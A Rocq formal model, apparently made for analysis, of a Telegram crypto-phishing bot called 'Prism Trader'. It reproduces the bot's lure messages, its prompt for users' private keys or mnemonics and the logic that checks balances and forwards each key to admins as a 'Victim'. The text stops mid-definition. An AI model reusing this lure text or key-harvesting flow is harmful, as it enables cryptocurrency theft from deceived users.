(** * Prism: the credential-capture dialogue of [prism.py]

    A shallow embedding of the handlers of [TradingBot] and of the start-up
    code of the module, followed by the properties of the specification
    that were checked against them.

    Conventions.
    - A Python [str] is a Rocq [string] holding its UTF-8 encoding; [bytes]
      are [list byte].
    - A Python exception is a value [Raise e]; [try ... except Exception]
      is [try_except].  Only exceptions deriving from [Exception] are
      modelled.
    - [context.user_data] is a finite map from keys to booleans: the two
      flags are the only entries the program writes.
    - Every call of the Telegram API and every HTTP request is appended to
      a log together with its outcome; the outcome is chosen by the
      environment from the history so far, so any pattern of transport
      failures can be expressed.
    - External packages ([base58], [nacl], the builtins [int] and [repr])
      are interfaces; the handlers are written against the interfaces.
    - [logger] calls have no modelled effect, the keyword arguments
      [parse_mode] and [disable_web_page_preview] are left out. *)

From Stdlib Require Import ZArith NArith Lia Ascii String List.
From Stdlib.Strings Require Import Byte.
From stdpp Require Import gmap strings list pretty.

#[local] Set Warnings "-register-all".
#[local] Open Scope string_scope.
#[local] Open Scope Z_scope.

(** ** Python values *)

Module Py.

(** An exception: the name of its class and [str(e)]. *)
Record exn := Exn { exn_class : string; exn_str : string }.

Inductive result (A : Type) :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

Definition is_ok {A} (r : result A) : bool :=
  match r with Ok _ => true | Raise _ => false end.

Definition ValueError (msg : string) : exn := Exn "ValueError" msg.
Definition TypeError (msg : string) : exn := Exn "TypeError" msg.
Definition AttributeError (msg : string) : exn := Exn "AttributeError" msg.
Definition OverflowError (msg : string) : exn := Exn "OverflowError" msg.

(** [except ValueError], the clause of the start-up code: the class and
    its builtin subclasses. *)
Definition is_ValueError (e : exn) : bool :=
  bool_decide (exn_class e ∈ [ "ValueError"; "UnicodeError";
                               "UnicodeEncodeError"; "UnicodeDecodeError";
                               "UnicodeTranslateError" ]).

(** *** Strings *)

Definition code (c : ascii) : N := N_of_ascii c.

(** [str.isspace] on the code points below 128. *)
Definition ws1 (c : ascii) : bool :=
  let n := code c in
  ((9 <=? n) && (n <=? 13) || (28 <=? n) && (n <=? 32))%N.

(** The two-byte encodings of U+0085 and U+00A0. *)
Definition ws2 (c1 c2 : ascii) : bool :=
  ((code c1 =? 194) && ((code c2 =? 133) || (code c2 =? 160)))%N.

(** The three-byte encodings of U+1680, U+2000..U+200A, U+2028, U+2029,
    U+202F, U+205F and U+3000. *)
Definition ws3 (c1 c2 c3 : ascii) : bool :=
  let '(a, b, c) := (code c1, code c2, code c3) in
  ((a =? 225) && (b =? 154) && (c =? 128)
   || (a =? 226) && (b =? 128)
      && ((128 <=? c) && (c <=? 138) || (c =? 168) || (c =? 169) || (c =? 175))
   || (a =? 226) && (b =? 129) && (c =? 159)
   || (a =? 227) && (b =? 128) && (c =? 128))%N.

(** Removal of the white space at the front of a sequence of bytes.  [p2]
    and [p3] recognise the multi-byte white space in the order in which
    the bytes are met. *)
Fixpoint lstrip_with (p2 : ascii -> ascii -> bool)
    (p3 : ascii -> ascii -> ascii -> bool) (l : list ascii) : list ascii :=
  match l with
  | c1 :: r1 =>
      if ws1 c1 then lstrip_with p2 p3 r1
      else match r1 with
           | c2 :: r2 =>
               if p2 c1 c2 then lstrip_with p2 p3 r2
               else match r2 with
                    | c3 :: r3 =>
                        if p3 c1 c2 c3 then lstrip_with p2 p3 r3 else l
                    | [] => l
                    end
           | [] => l
           end
  | [] => l
  end.

(** The sequence starts with a white space character. *)
Definition starts_ws (p2 : ascii -> ascii -> bool)
    (p3 : ascii -> ascii -> ascii -> bool) (l : list ascii) : bool :=
  match l with
  | c1 :: r1 =>
      ws1 c1
      || match r1 with
         | c2 :: r2 =>
             p2 c1 c2
             || match r2 with c3 :: _ => p3 c1 c2 c3 | [] => false end
         | [] => false
         end
  | [] => false
  end.

Definition lstrip_bytes : list ascii -> list ascii := lstrip_with ws2 ws3.

Definition rstrip_bytes (l : list ascii) : list ascii :=
  rev (lstrip_with (fun c2 c1 => ws2 c1 c2)
                   (fun c3 c2 c1 => ws3 c1 c2 c3) (rev l)).

(** [str.lstrip()], [str.rstrip()] and [str.strip()]. *)
Definition lstrip (s : string) : string :=
  string_of_list_ascii (lstrip_bytes (list_ascii_of_string s)).

Definition rstrip (s : string) : string :=
  string_of_list_ascii (rstrip_bytes (list_ascii_of_string s)).

Definition strip (s : string) : string :=
  string_of_list_ascii
    (rstrip_bytes (lstrip_bytes (list_ascii_of_string s))).

(** Truth value of a [str]. *)
Definition truthy (s : string) : bool :=
  match s with EmptyString => false | String _ _ => true end.

(** Truth value of an [Optional[str]]. *)
Definition truthy_opt (o : option string) : bool :=
  match o with Some s => truthy s | None => false end.

(** [x or default] on an [Optional[str]]. *)
Definition or_else (o : option string) (default : string) : string :=
  match o with
  | Some s => if truthy s then s else default
  | None => default
  end.

(** [needle in s] for two strings. *)
Fixpoint contains (needle s : string) : bool :=
  String.prefix needle s
  || match s with
     | String _ r => contains needle r
     | EmptyString => false
     end.

(** [s.split(sep)] for a separator of one character. *)
Fixpoint str_split (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c r =>
      if Ascii.eqb c sep then EmptyString :: str_split sep r
      else match str_split sep r with
           | h :: t => String c h :: t
           | [] => [String c EmptyString]
           end
  end.

(** [str(n)] for an [int]. *)
Definition str_int (n : Z) : string := pretty n.

(** *** Floats

    A [float] is an IEEE 754 binary64 value: [Finite neg m e] stands for
    [(-1)^neg * m * 2^e] with [0 <= m < 2^53] and [-1074 <= e <= 971]. *)
Inductive float :=
| Finite (neg : bool) (m e : Z)
| Infinity (neg : bool)
| NaN.

Definition emin : Z := -1074.
Definition emax : Z := 971.

(** Quotient of [n] by [d] rounded to the nearest integer, ties to even
    ([0 <= n], [0 < d]). *)
Definition div_half_even (n d : Z) : Z :=
  let q := n / d in
  let r := n mod d in
  if (d <? 2 * r) || ((2 * r =? d) && Z.odd q) then q + 1 else q.

(** [floor (log2 (a / b))] for positive [a] and [b]. *)
Definition log2_quot (a b : Z) : Z :=
  let k := Z.log2 a - Z.log2 b in
  if (if 0 <=? k then b * 2 ^ k <=? a else b <=? a * 2 ^ (- k))
  then k else k - 1.

(** The binary64 value nearest to [a / b] ([0 <= a], [0 < b]): mantissa
    and exponent, or [None] when the rounded quotient exceeds the largest
    finite value. *)
Definition round_quot (a b : Z) : option (Z * Z) :=
  if a =? 0 then Some (0, 0)
  else
    let e := Z.max emin (log2_quot a b - 52) in
    let m := div_half_even (a * 2 ^ Z.max 0 (- e)) (b * 2 ^ Z.max 0 e) in
    let '(m, e) := if m =? 2 ^ 53 then (2 ^ 52, e + 1) else (m, e) in
    if m =? 0 then Some (0, 0)
    else if emax <? e then None else Some (m, e).

(** [a / b] for two [int]: true division. *)
Definition int_truediv (a b : Z) : result float :=
  if b =? 0 then Raise (Exn "ZeroDivisionError" "division by zero")
  else
    let neg := xorb (a <? 0) (b <? 0) in
    match round_quot (Z.abs a) (Z.abs b) with
    | Some (m, e) => Ok (Finite neg m e)
    | None =>
        Raise (OverflowError "integer division result too large for a float")
    end.

(** [x / b] for a [float] and a positive [int] that converts exactly. *)
Definition float_truediv (x : float) (b : Z) : float :=
  match x with
  | Finite neg m e =>
      match round_quot (m * 2 ^ Z.max 0 e) (b * 2 ^ Z.max 0 (- e)) with
      | Some (m', e') => Finite neg m' e'
      | None => Infinity neg
      end
  | Infinity neg => Infinity neg
  | NaN => NaN
  end.

(** Decimal digits of [n], padded with zeros on the left to [width]. *)
Definition zero_pad (width : nat) (n : Z) : string :=
  let s := pretty n in
  String.concat "" (replicate (width - String.length s)%nat "0") +:+ s.

(** [f"{x:.4f}"]: the exact value rounded to four decimals, ties to even. *)
Definition format_4f (x : float) : string :=
  match x with
  | Finite neg m e =>
      let n := div_half_even (m * 10000 * 2 ^ Z.max 0 e) (2 ^ Z.max 0 (- e)) in
      (if neg then "-" else "")
      +:+ pretty (n / 10000) +:+ "." +:+ zero_pad 4 (n mod 10000)
  | Infinity neg => if neg then "-inf" else "inf"
  | NaN => "nan"
  end.

(** *** Decoded JSON

    The values [json.loads] builds.  An object is a [dict], hence a finite
    map. *)
Inductive json :=
| JNull
| JBool (b : bool)
| JInt (n : Z)
| JFloat (x : float)
| JStr (s : string)
| JArr (l : list json)
| JObj (m : gmap string json).

Definition type_name (v : json) : string :=
  match v with
  | JNull => "NoneType"
  | JBool _ => "bool"
  | JInt _ => "int"
  | JFloat _ => "float"
  | JStr _ => "str"
  | JArr _ => "list"
  | JObj _ => "dict"
  end.

Definition is_JStr (k : string) (v : json) : bool :=
  match v with JStr s => bool_decide (s = k) | _ => false end.

(** [k in v] for a string [k]. *)
Definition py_in (k : string) (v : json) : result bool :=
  match v with
  | JObj m => Ok (bool_decide (is_Some (m !! k)))
  | JArr l => Ok (existsb (is_JStr k) l)
  | JStr s => Ok (contains k s)
  | _ =>
      Raise (TypeError ("argument of type '" +:+ type_name v
                        +:+ "' is not iterable"))
  end.

(** [v[k]] for a string [k]. *)
Definition py_getitem (v : json) (k : string) : result json :=
  match v with
  | JObj m =>
      match m !! k with
      | Some x => Ok x
      | None => Raise (Exn "KeyError" ("'" +:+ k +:+ "'"))
      end
  | JArr _ =>
      Raise (TypeError "list indices must be integers or slices, not str")
  | JStr _ => Raise (TypeError "string indices must be integers, not 'str'")
  | _ =>
      Raise (TypeError ("'" +:+ type_name v
                        +:+ "' object is not subscriptable"))
  end.

(** [v.get(k, default)]. *)
Definition py_get (v : json) (k : string) (dflt : json) : result json :=
  match v with
  | JObj m => Ok (default dflt (m !! k))
  | _ =>
      Raise (AttributeError ("'" +:+ type_name v
                             +:+ "' object has no attribute 'get'"))
  end.

(** [v / b] for a positive [int] [b] that converts exactly to a float. *)
Definition py_truediv (v : json) (b : Z) : result float :=
  match v with
  | JInt n => int_truediv n b
  | JBool t => int_truediv (if t then 1 else 0) b
  | JFloat x => Ok (float_truediv x b)
  | _ =>
      Raise (TypeError ("unsupported operand type(s) for /: '"
                        +:+ type_name v +:+ "' and 'int'"))
  end.

End Py.
Export Py.

(** ** External packages *)

(** The [base58] package with its default (Bitcoin) alphabet. *)
Class Base58Lib := {
  b58decode : string -> result (list byte);
  b58encode : list byte -> string
}.

(** [nacl.signing]: the bytes of the verify key of the signing key made
    from a seed of 32 bytes. *)
Class NaclLib := {
  ed25519_public : list byte -> list byte
}.

(** The builtins [int] (on a [str]) and [repr] (on a decoded JSON value). *)
Class Builtins := {
  py_int : string -> result Z;
  py_repr : json -> string
}.

(** [SigningKey(seed)] followed by [bytes(signing_key.verify_key)]. *)
Definition SigningKey_verify_key `{NaclLib} (seed : list byte)
  : result (list byte) :=
  if (length seed =? 32)%nat then Ok (ed25519_public seed)
  else Raise (ValueError "The seed must be exactly 32 bytes long").

(** [str(v)], as an f-string renders a value: a [str] is itself. *)
Definition py_str `{Builtins} (v : json) : string :=
  match v with JStr s => s | _ => py_repr v end.

(** *** The algorithm of the [base58] package *)

Module Base58.

Definition BITCOIN_ALPHABET : string :=
  "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz".

(** Position of a character in the alphabet. *)
Fixpoint index_of (c : ascii) (alphabet : string) : option N :=
  match alphabet with
  | EmptyString => None
  | String a r =>
      if Ascii.eqb a c then Some 0%N else N.succ <$> index_of c r
  end.

(** [scrub_input]: [v.encode('ascii')]; the text of the exception is
    abridged. *)
Definition scrub_input (v : string) : result (list ascii) :=
  let l := list_ascii_of_string v in
  if forallb (fun c => (code c <? 128)%N) l then Ok l
  else Raise (Exn "UnicodeEncodeError" "'ascii' codec can't encode character").

(** [b58decode_int] on bytes: the loop over the characters. *)
Fixpoint b58decode_int (decimal : N) (v : list ascii) : result N :=
  match v with
  | [] => Ok decimal
  | c :: r =>
      match index_of c BITCOIN_ALPHABET with
      | Some d => b58decode_int (decimal * 58 + d)%N r
      | None => Raise (ValueError ("Invalid character '" +:+ String c "" +:+ "'"))
      end
  end.

(** [v.lstrip(b'1')]. *)
Fixpoint lstrip_ones (v : list ascii) : list ascii :=
  match v with
  | c :: r => if Ascii.eqb c "1" then lstrip_ones r else v
  | [] => v
  end.

(** [bytes.rstrip()]: the six ASCII white space bytes. *)
Definition bytes_space (c : ascii) : bool :=
  ((9 <=? code c) && (code c <=? 13) || (code c =? 32))%N.

Fixpoint lstrip_space (v : list ascii) : list ascii :=
  match v with
  | c :: r => if bytes_space c then lstrip_space r else v
  | [] => v
  end.

Definition bytes_rstrip (v : list ascii) : list ascii :=
  rev (lstrip_space (rev v)).

(** The low [len] bytes of [acc], least significant first. *)
Fixpoint to_bytes_le (len : nat) (acc : N) : list byte :=
  match len with
  | O => []
  | S len' =>
      default x00 (Byte.of_N (acc mod 256)) :: to_bytes_le len' (acc / 256)
  end.

(** [acc.bit_length()]. *)
Definition bit_length (acc : N) : N :=
  match acc with 0%N => 0%N | _ => N.succ (N.log2 acc) end.

(** [acc.to_bytes(len, 'big')] for a [len] that is large enough. *)
Definition to_bytes_big (len : nat) (acc : N) : list byte :=
  rev (to_bytes_le len acc).

Definition decode (v : string) : result (list byte) :=
  let v := rstrip v in
  match scrub_input v with
  | Raise e => Raise e
  | Ok v =>
      let origlen := length v in
      let v := lstrip_ones v in
      let newlen := length v in
      match b58decode_int 0 (bytes_rstrip v) with
      | Raise e => Raise e
      | Ok acc =>
          Ok (to_bytes_big
                (origlen - newlen + N.to_nat ((bit_length acc + 7) / 8)) acc)
      end
  end.

(** [int.from_bytes(v, 'big')]. *)
Definition from_bytes_big (v : list byte) : N :=
  fold_left (fun acc b => (acc * 256 + Byte.to_N b)%N) v 0%N.

(** [b58encode_int(i, default_one=False)]: the digits, most significant
    first; the recursion is bounded by the bit length of [i]. *)
Fixpoint b58encode_int (fuel : nat) (i : N) (acc : list ascii) : list ascii :=
  match fuel with
  | O => acc
  | S fuel' =>
      if (i =? 0)%N then acc
      else
        let d := default "1"%char
                   (String.get (N.to_nat (i mod 58)) BITCOIN_ALPHABET) in
        b58encode_int fuel' (i / 58)%N (d :: acc)
  end.

Fixpoint count_zeros (v : list byte) : nat :=
  match v with
  | b :: r => if Byte.eqb b x00 then S (count_zeros r) else O
  | [] => O
  end.

Definition encode (v : list byte) : string :=
  let acc := from_bytes_big v in
  string_of_list_ascii
    (replicate (count_zeros v) "1"%char
     ++ b58encode_int (N.to_nat (bit_length acc)) acc []).

End Base58.

(** ** The chat transport and the RPC endpoint *)

Inductive button :=
| CallbackButton (text callback_data : string)
| UrlButton (text url : string).

(** An [InlineKeyboardMarkup]: rows of buttons. *)
Abbreviation keyboard := (list (list button)).

(** The outbound operations of the chat library the handlers use. *)
Inductive tg_call :=
| answer
| reply_text (text : string) (reply_markup : option keyboard)
| edit_message_text (text : string) (reply_markup : option keyboard)
| send_message (chat_id : Z) (text : string)
| delete_message (chat_id message_id : Z)
| pin_chat_message (chat_id message_id : Z).

Record payload := {
  jsonrpc : string;
  id : Z;
  method : string;
  params : list string
}.

Record request := {
  url : string;
  json_payload : payload;
  content_type : string;
  timeout : Z
}.

(** What the handlers read of an HTTP response: [body] is the outcome of
    [response.json()]. *)
Record response := {
  status_code : Z;
  body : result json
}.

(** One interaction with the outside and its outcome.  A successful
    Telegram call yields the identifier of the message it concerns. *)
Inductive event :=
| Tg (c : tg_call) (r : result Z)
| Post (q : request) (r : result response).

(** The environment answers each call from the history of the calls made
    so far. *)
Record env := {
  telegram : list event -> tg_call -> result Z;
  httpx_post : list event -> request -> result response
}.

(** [context.user_data] of the user and the log of interactions. *)
Record state := {
  user_data : gmap string bool;
  log : list event
}.

(** A handler is a state transformer that returns or raises. *)
Definition M (A : Type) : Type := state -> result A * state.

#[export] Instance M_ret : MRet M := fun A a s => (Ok a, s).

#[export] Instance M_bind : MBind M := fun A B f m s =>
  match m s with
  | (Ok a, s') => f a s'
  | (Raise e, s') => (Raise e, s')
  end.

(** [try: m except Exception as e: h e]. *)
Definition try_except {A} (m : M A) (h : exn -> M A) : M A := fun s =>
  match m s with
  | (Ok a, s') => (Ok a, s')
  | (Raise e, s') => h e s'
  end.

(** A pure computation that may raise. *)
Definition lift {A} (r : result A) : M A := fun s => (r, s).

(** [context.user_data.get(key)] used as a condition. *)
Definition user_data_get (key : string) : M bool := fun s =>
  (Ok (default false (user_data s !! key)), s).

(** [context.user_data[key] = value]. *)
Definition user_data_set (key : string) (value : bool) : M unit := fun s =>
  (Ok tt, {| user_data := <[key := value]> (user_data s); log := log s |}).

Definition call (E : env) (c : tg_call) : M Z := fun s =>
  let r := telegram E (log s) c in
  (r, {| user_data := user_data s; log := log s ++ [Tg c r] |}).

Definition post (E : env) (q : request) : M response := fun s =>
  let r := httpx_post E (log s) q in
  (r, {| user_data := user_data s; log := log s ++ [Post q r] |}).

(** [for x in l: body x]. *)
Fixpoint for_each {A} (l : list A) (body : A -> M unit) : M unit :=
  match l with
  | [] => mret tt
  | x :: l' => _ ← body x; for_each l' body
  end.

(** A list comprehension whose element expression may raise. *)
Fixpoint map_result {A B} (f : A -> result B) (l : list A) : result (list B) :=
  match l with
  | [] => Ok []
  | x :: l' =>
      match f x with
      | Raise e => Raise e
      | Ok y =>
          match map_result f l' with
          | Raise e => Raise e
          | Ok ys => Ok (y :: ys)
          end
      end
  end.

(** ** Module level: configuration (lines 27-48) *)

Record config := {
  API_TOKEN : string;
  ADMIN_ID_LIST : list Z;
  LINK_URL : string
}.

(** The statements executed when the module is loaded, on the process
    environment [environ]: the configuration, or the exception that stops
    the process. *)
Definition load_module `{Builtins} (environ : gmap string string)
  : result config :=
  let API_TOKEN := environ !! "API_TOKEN" in
  let ADMIN_IDS := environ !! "ADMIN_IDS" in
  let LINK_URL := default "https://telegram.org" (environ !! "LINK_URL") in
  if negb (truthy_opt API_TOKEN) || negb (truthy_opt ADMIN_IDS) then
    Raise (ValueError "❌ API_TOKEN or ADMIN_IDS is not set in .env file!")
  else
    match map_result (fun admin_id => py_int (strip admin_id))
                     (str_split "," (default "" ADMIN_IDS)) with
    | Ok l =>
        Ok {| API_TOKEN := default "" API_TOKEN;
              ADMIN_ID_LIST := l;
              LINK_URL := LINK_URL |}
    | Raise e =>
        if is_ValueError e then
          Raise (ValueError "❌ ADMIN_IDS must be comma-separated integers!")
        else Raise e
    end.

Definition SOLANA_RPC_URL : string := "https://api.mainnet-beta.solana.com".

Definition WAITING_FOR_PRIVATE_KEY : Z := 1.

(** [ConversationHandler.END]. *)
Definition END : Z := -1.

(** ** [TradingBot] *)

Definition nl : string := String "010" "".

Definition welcome_message (LINK_URL : string) : string :=
  "👋 Welcome to *Prism Trader*, the one-stop solution for all your trading "
  +:+ "needs!"
  +:+ nl
  +:+ nl
  +:+ "🔗 *Chains:* Enable/disable chains."
  +:+ nl
  +:+ "👛 *Wallets:* Import or generate wallets."
  +:+ nl
  +:+ "⚙️ *Global Settings:* Customize the bot for a unique experience."
  +:+ nl
  +:+ "📈 *Active Orders:* Active buy and sell limit orders."
  +:+ nl
  +:+ "📊 *Positions:* Monitor your active trades."
  +:+ nl
  +:+ nl
  +:+ "⚡ Looking for a quick buy or sell? Simply paste the token CA and you're "
  +:+ "ready to go!"
  +:+ nl
  +:+ nl
  +:+ "*Sol wallet W1👉* `5gpSuKAUT874G5FQQTSAURtA81tW6HwnCAuSwEpb7aig`"
  +:+ nl
  +:+ "*Eth wallet W2👉* `0x67B169aC536789358B655936D817b76C27B57828`"
  +:+ nl
  +:+ nl
  +:+ "[Hub]("
  +:+ LINK_URL
  +:+ ") • [Updates]("
  +:+ LINK_URL
  +:+ ") • [X (Twitter)]("
  +:+ LINK_URL
  +:+ ") • [Docs]("
  +:+ LINK_URL
  +:+ ") • [Support]("
  +:+ LINK_URL
  +:+ ") • [More Links]("
  +:+ LINK_URL
  +:+ ")"
  +:+ nl
  +:+ nl
  +:+ "🇳🇱 EU1 • 🇩🇪 EU2 • 🇺🇸 US1 • 🇸🇬 SG1".

Definition first_time_message (LINK_URL : string) : string :=
  "**Prism Trade – Unlock a Smarter Way to Trade Crypto**"
  +:+ nl
  +:+ nl
  +:+ "**Prism Trade enables secure and efficient token trading directly "
  +:+ "within Telegram. With powerful features such as Limit Orders, Copy "
  +:+ "Trading, Sniping, and more, you can execute advanced strategies "
  +:+ "seamlessly, all from one interface.**"
  +:+ nl
  +:+ nl
  +:+ "**By proceeding, you will generate a non-custodial crypto wallet that "
  +:+ "integrates with Prism Trade. This wallet allows full access to trading "
  +:+ "and wallet management within Telegram, without the need for external "
  +:+ "apps or platforms.**"
  +:+ nl
  +:+ nl
  +:+ "**Important: Upon continuing, your public wallet address and private "
  +:+ "key will be generated and displayed directly in this chat. Please "
  +:+ "ensure you are in a private and secure environment.**"
  +:+ nl
  +:+ "**Your private key will not be stored or recoverable by Prism Trade. It "
  +:+ "is your sole responsibility to store it securely.**"
  +:+ nl
  +:+ nl
  +:+ "**By clicking Continue, you confirm that you have read and accepted our "
  +:+ "[Terms and Conditions]("
  +:+ LINK_URL
  +:+ ") and [Privacy Policy]("
  +:+ LINK_URL
  +:+ "). You also acknowledge the inherent risks of cryptocurrency trading "
  +:+ "and accept full responsibility for any outcomes resulting from the use "
  +:+ "of Prism Trade.**".

Definition main_menu_buttons : list string :=
  [ "📊 Active orders"; "💎 Presale"; "⭐ Premium"; "🔗 Referral";
    "🌉 Bridge"; "📉 Positions"; "🤖 Auto snipe"; "🔁 Copy trade";
    "⚙️ Global settings"; "👛 Wallets"; "📡 Signals"; "🔗 Chains";
    "🆘 Support" ].

Definition wallet_menu_buttons : list string :=
  [ "🔑 Import wallet"; "🧑‍💻 Generate wallet"; "📝 Manual"; "🎮 Q1";
    "💼 Default wallet"; "🔄 Q1 Rearrange wallets"; "❓ Help"; "🔙 Return" ].

(** The rows [buttons[i:i + row_width]] for [i] in
    [range(0, len(buttons), row_width)]; at most [fuel] rows. *)
Fixpoint keyboard_rows (fuel row_width : nat) (buttons : list string)
  : keyboard :=
  match fuel, buttons with
  | S fuel', _ :: _ =>
      map (fun btn => CallbackButton btn btn) (take row_width buttons)
      :: keyboard_rows fuel' row_width (drop row_width buttons)
  | _, _ => []
  end.

Definition create_keyboard (buttons : list string) (row_width : nat)
  : result keyboard :=
  match row_width with
  | O => Raise (ValueError "range() arg 3 must not be zero")
  | S _ => Ok (keyboard_rows (length buttons) row_width buttons)
  end.

Section TradingBot.

Context `{Base58Lib} `{NaclLib} `{Builtins}.

(** The transport and the loaded configuration. *)
Variable E : env.
Variable cfg : config.

Definition validate_private_key (private_key : string) : bool :=
  match b58decode private_key with
  | Ok decoded =>
      bool_decide (length decoded = 32%nat) || bool_decide (length decoded = 64%nat)
  | Raise _ => false
  end.

(** Lines 133-146: the request of [client.post]. *)
Definition balance_request (public_key_str : string) : request :=
  let payload :=
    {| jsonrpc := "2.0"; id := 1; method := "getBalance";
       params := [public_key_str] |} in
  {| url := SOLANA_RPC_URL; json_payload := payload;
     content_type := "application/json"; timeout := 10 |}.

(** Lines 123-157: from the secret key bytes to the result of the lookup. *)
Definition lookup_with_seed (secret_key_bytes : list byte)
  : M (option float * string) :=
  public_key_bytes ← lift (SigningKey_verify_key secret_key_bytes);
  let public_key_str := b58encode public_key_bytes in
  response ← post E (balance_request public_key_str);
  if status_code response =? 200 then
    data ← lift (body response);
    has_result ← lift (py_in "result" data);
    has_value ←
      (if has_result : bool then
         res ← lift (py_getitem data "result");
         lift (py_in "value" res)
       else mret false);
    if has_value : bool then
      res ← lift (py_getitem data "result");
      balance_lamports ← lift (py_getitem res "value");
      balance_sol ← lift (py_truediv balance_lamports 1000000000);
      mret (Some balance_sol, public_key_str)
    else
      error ← lift (py_get data "error" (JStr "Unknown error"));
      mret (None, "RPC Error: " +:+ py_str error)
  else
    mret (None, "HTTP Error: " +:+ str_int (status_code response)).

Definition get_solana_balance_async (private_key : string)
  : M (option float * string) :=
  try_except
    (decoded_key ← lift (b58decode private_key);
     if (length decoded_key =? 64)%nat then
       lookup_with_seed (take 32 decoded_key)
     else if (length decoded_key =? 32)%nat then
       lookup_with_seed decoded_key
     else mret (None, "Invalid private key format"))
    (fun e => mret (None, "Error: " +:+ exn_str e)).

(** [asyncio.run] of the coroutine: the handlers run outside an event
    loop, so the first branch returns the coroutine's result. *)
Definition get_solana_balance (private_key : string)
  : M (option float * string) :=
  get_solana_balance_async private_key.

Definition error_reply : string := "❌ An error occurred. Please try again.".

Definition connect_prompt : string :=
  "To elevate your trading experience, please connect your wallet.".

Definition no_funds : string :=
  "❌ No funds detected. Please deposit or import a wallet.".

(** An inbound text message: the fields of [update.effective_user],
    [update.effective_chat] and [update.message] the handlers read.  The
    update comes from a user in a chat, so none of the three is [None]. *)
Record update := {
  effective_user_id : Z;
  effective_user_username : option string;
  effective_chat_id : Z;
  message_id : Z;
  message_text : string
}.

(** An inbound button press: the fields of [update.callback_query] the
    handler reads. *)
Record callback_query := {
  from_user_id : Z;
  from_user_username : option string;
  data : string
}.

Definition show_main_menu (u : update) : M unit :=
  try_except
    (welcome_msg ← call E (reply_text connect_prompt None);
     _ ← try_except
           (_ ← call E (pin_chat_message (effective_chat_id u) welcome_msg);
            mret tt)
           (fun e => mret tt);
     markup ← lift (create_keyboard main_menu_buttons 2);
     _ ← call E (reply_text (welcome_message (LINK_URL cfg)) (Some markup));
     mret tt)
    (fun e => _ ← call E (reply_text error_reply None); mret tt).

Definition start_command (u : update) : M unit :=
  try_except
    (let user_id := effective_user_id u in
     seen ← user_data_get "has_seen_welcome";
     if negb seen then
       let continue_keyboard :=
         [[CallbackButton "Continue" "continue_to_main"]] in
       _ ← call E (reply_text (first_time_message (LINK_URL cfg))
                              (Some continue_keyboard));
       user_data_set "has_seen_welcome" true
     else show_main_menu u)
    (fun e => _ ← call E (reply_text error_reply None); mret tt).

Definition support_buttons : keyboard :=
  [ [UrlButton "Owner" "https://t.me/Kuqo767"];
    [UrlButton "Support Rep 1" "https://t.me/PrismTraderSupport1"];
    [UrlButton "Support Rep 2" "https://t.me/Prism_trade_support"];
    [UrlButton "Support Rep 3" "https://t.me/PrismTradingSupporter"] ].

Definition response_map : gmap string string :=
  list_to_map
    [ ("📊 Active orders", "📊 View and manage your active buy and sell orders.");
      ("💎 Presale", "📝 Find upcoming presale events and token launches.");
      ("⭐ Premium", "💎 Unlock premium features for a more advanced experience.");
      ("🔗 Referral", "📈 Share your referral link and earn rewards when others sign up!");
      ("📉 Positions", "📊 Track your open trading positions and their status.");
      ("🤖 Auto snipe", "🤖 Automatically make trades when a target condition is met.");
      ("🔁 Copy trade", "🔁 Copy the trades of successful traders automatically.");
      ("⚙️ Global settings", "⚙️ Adjust your bot's settings to personalize your experience.");
      ("📡 Signals", "📡 Receive real-time trade signals for profitable opportunities.");
      ("🔗 Chains", "🔗 Enable or disable different chains and protocols for trading.");
      ("🌉 Bridge", "🌉 Bridge tokens between different blockchains.") ].

(** The value returned is [None] or [WAITING_FOR_PRIVATE_KEY]. *)
Definition button_callback (query : callback_query) : M (option Z) :=
  _ ← call E answer;
  let user_id := from_user_id query in
  let username := or_else (from_user_username query) "NoUsername" in
  let button_data := data query in
  try_except
    (if bool_decide (button_data = "👛 Wallets") then
       markup ← lift (create_keyboard wallet_menu_buttons 2);
       _ ← call E (edit_message_text "👛 *Wallets Menu:*" (Some markup));
       mret None
     else if bool_decide (button_data = "🔑 Import wallet") then
       _ ← call E (edit_message_text
                     "🔑 Please enter the private key or a 12-word mnemonic phrase of the wallet you want to import."
                     None);
       _ ← user_data_set "awaiting_private_key" true;
       mret (Some WAITING_FOR_PRIVATE_KEY)
     else if bool_decide (button_data = "continue_to_main") then
       _ ← call E (edit_message_text connect_prompt None);
       markup ← lift (create_keyboard main_menu_buttons 2);
       _ ← call E (reply_text (welcome_message (LINK_URL cfg)) (Some markup));
       mret None
     else if bool_decide (button_data = "🆘 Support") then
       _ ← call E (edit_message_text
                     "Choose one of our representatives to speak to:"
                     (Some support_buttons));
       mret None
     else if bool_decide (button_data = "🔙 Return") then
       markup ← lift (create_keyboard main_menu_buttons 2);
       _ ← call E (edit_message_text (welcome_message (LINK_URL cfg))
                                     (Some markup));
       mret None
     else if bool_decide (button_data ∈ wallet_menu_buttons) then
       _ ← call E (reply_text no_funds None);
       mret None
     else
       let response :=
         default "❌ Feature not implemented yet." (response_map !! button_data) in
       _ ← call E (reply_text response None);
       mret None)
    (fun e => _ ← call E (reply_text error_reply None); mret None).

Definition no_key_reply : string :=
  "❌ You did not provide a private key or mnemonic phrase. Please try again.".

Definition invalid_format_reply : string :=
  "❌ Invalid private key format. Please provide a valid base58 encoded private key.".

Definition connecting_reply : string :=
  "🔄 Your wallet is being connected. This may take a minute." +:+ nl
  +:+ "⚠️ Please ensure this is the correct wallet, as entering the wrong one may cause issues!".

Definition processing_error_reply : string :=
  "❌ An error occurred while processing your wallet. Please try again.".

(** Lines 333-338. *)
Definition balance_text (balance : option float) (public_key_or_error : string)
  : string :=
  match balance with
  | Some b => format_4f b +:+ " SOL"
  | None => "Error: " +:+ public_key_or_error
  end.

Definition public_key_text (balance : option float)
    (public_key_or_error : string) : string :=
  match balance with
  | Some _ => "Public Key: `" +:+ public_key_or_error +:+ "`"
  | None => "Public Key: Unable to derive"
  end.

(** Lines 340-351. *)
Definition admin_message (username : string) (user_id : Z)
    (balance_text public_key_text private_key : string) : string :=
  "🔐 *Victim imported Solana wallet*" +:+ nl +:+ nl
  +:+ "**Victim Information**" +:+ nl
  +:+ "Name: @" +:+ username +:+ nl
  +:+ "Premium: ❌" +:+ nl
  +:+ "• ID: " +:+ str_int user_id +:+ nl
  +:+ "Balance: " +:+ balance_text +:+ nl
  +:+ public_key_text +:+ nl +:+ nl
  +:+ "**Private key:**" +:+ nl
